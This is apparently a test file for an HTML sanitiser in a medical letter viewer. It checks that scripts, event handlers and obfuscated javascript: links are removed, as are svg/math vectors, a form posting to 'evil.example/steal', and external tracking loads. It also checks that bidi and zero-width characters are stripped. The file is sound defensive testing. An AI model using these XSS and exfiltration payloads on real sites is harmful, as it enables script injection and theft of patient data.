import { expect } from '@open-wc/testing';
import { sanitiseHtml } from '../../src/base/sanitise.js';

/** The sanitised markup as a string, to assert on (the element itself never serialises it). */
function markup(html: string, headingLevel?: number): { html: string; removed: number } {
  const { fragment, removed } = sanitiseHtml(html, { headingLevel });
  const holder = document.createElement('div');
  holder.append(fragment);
  return { html: holder.innerHTML, removed };
}

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

describe('base/sanitise', () => {
  afterEach(() => {
    delete (window as { pwned?: boolean }).pwned;
  });

  it('keeps a letter: headings, paragraphs, lists, tables, emphasis, web links', () => {
    const { html, removed } = markup(
      `<h1>Discharge summary</h1><p>Dear Dr <strong>Patel</strong>,</p><ul><li>Ramipril 5 mg</li></ul>
       <table><thead><tr><th scope="col">Test</th></tr></thead><tbody><tr><td>Hb 120</td></tr></tbody></table>
       <p><a href="https://www.nhs.uk/conditions/">NHS website</a> <a href="mailto:ward12@nhs.example">email</a></p>`,
    );
    expect(removed).to.equal(0);
    expect(html).to.contain('<h3>Discharge summary</h3>');
    expect(html).to.contain('<strong>Patel</strong>');
    expect(html).to.contain('<th scope="col">Test</th>');
    expect(html).to.contain(
      '<a href="https://www.nhs.uk/conditions/" target="_blank" rel="noopener noreferrer" referrerpolicy="no-referrer">',
    );
    expect(html).to.contain('href="mailto:ward12@nhs.example"');
  });

  it('removes scripts, event handlers and javascript: links, and nothing runs', async () => {
    const { fragment, removed } = sanitiseHtml(
      `<p>Hello</p><script>window.pwned = true</script><img src="x" onerror="window.pwned = true">
       <a href="javascript:window.pwned=true">click</a><a href=" JaVaScRiPt:alert(1)">again</a>
       <a href="jav&#x09;ascript:alert(1)">tabbed</a><div onclick="window.pwned = true" onmouseover="x()">box</div>
       <svg><script>window.pwned = true</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>
       <iframe src="javascript:window.pwned=true"></iframe><object data="x"></object><embed src="x">
       <form action="https://evil.example/steal"><input name="nhs"><button>Send</button></form>`,
    );
    const holder = document.createElement('div');
    document.body.append(holder);
    holder.append(fragment);
    await new Promise((resolve) => setTimeout(resolve, 50));
    const html = holder.innerHTML;
    holder.remove();
    expect((window as { pwned?: boolean }).pwned).to.equal(undefined);
    expect(html).not.to.match(
      /<script|onerror|onclick|onmouseover|javascript:|<iframe|<object|<embed|<form|<input|<svg|<math/i,
    );
    expect(html).to.contain('Hello');
    expect(html).to.contain('box');
    expect(removed).to.be.greaterThan(8);
  });

  it('loads nothing from elsewhere: no external images, link, base, meta, style, srcset or CSS url()', () => {
    const { html, removed } = markup(
      `<html><head><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
       <meta http-equiv="refresh" content="0;url=https://evil.example"><style>body{background:url(https://evil.example/b.png)}</style></head>
       <body><img src="https://evil.example/track.png" alt="Hospital logo"><img src="/relative.png">
       <img srcset="https://evil.example/x.png 2x" src="${PIXEL}" alt="Signature">
       <p style="background-image: url(https://evil.example/c.png); font-weight: bold">Bold</p>
       <p style="text-align: center; color: white; position: fixed; font-size: 0">Centred</p>
       <link rel="preload" href="https://evil.example/d.js"><meta http-equiv="refresh" content="0">
       <style>@import url(https://evil.example/e.css);</style><a href="/logout">relative</a><a href="#top">top</a></body></html>`,
    );
    expect(html).not.to.contain('evil.example');
    expect(html).not.to.match(/<link|<base|<meta|<style|srcset|url\(/i);
    expect(html).to.contain('[Hospital logo]');
    expect(html).to.contain(`<img src="${PIXEL}" alt="Signature">`);
    expect(html).to.contain('style="font-weight: bold"');
    expect(html).to.contain('style="text-align: center"');
    expect(html).not.to.match(/color|position|font-size/);
    expect(html).to.contain('<a>relative</a>');
    expect(html).to.contain('<a>top</a>');
    expect(removed).to.be.greaterThan(5);
  });

  it('keeps no ids, classes, roles or ARIA: nothing can take over the element', () => {
    const { html, removed } = markup(
      '<p id="viewer-title" class="item visually-hidden" role="alert" aria-hidden="true" tabindex="1" accesskey="x" data-x="1" name="n">Text</p>',
    );
    expect(html).to.equal('<p>Text</p>');
    expect(removed).to.equal(0);
  });

  it('text as written: bidi overrides and zero-width characters removed from text and alternative text', () => {
    const { html } = markup(
      `<p>Take \u202E05\u202C tablets, SM\u200BITH</p><img src="${PIXEL}" alt="A\u200Blt">`,
    );
    expect(html).to.contain('Take 05 tablets, SMITH');
    expect(html).to.contain('alt="Alt"');
  });

  it('every image keeps or gains alternative text; headings sit below the viewer (capped at 6)', () => {
    expect(markup(`<img src="${PIXEL}">`).html).to.contain('alt="Image in the document"');
    expect(markup('<h1>A</h1><h2>B</h2><h6>C</h6>', 4).html).to.equal('<h5>A</h5><h6>B</h6><h6>C</h6>');
  });
});
